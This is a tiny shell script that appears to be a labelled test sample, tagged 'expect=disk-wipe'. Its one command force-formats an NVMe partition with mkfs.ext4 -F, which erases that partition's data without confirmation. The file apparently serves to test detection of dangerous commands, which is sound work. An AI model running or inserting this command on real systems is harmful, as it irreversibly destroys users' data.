#!/bin/sh
#! assess-corpus: expect=disk-wipe
mkfs.ext4 -F /dev/nvme0n1p1
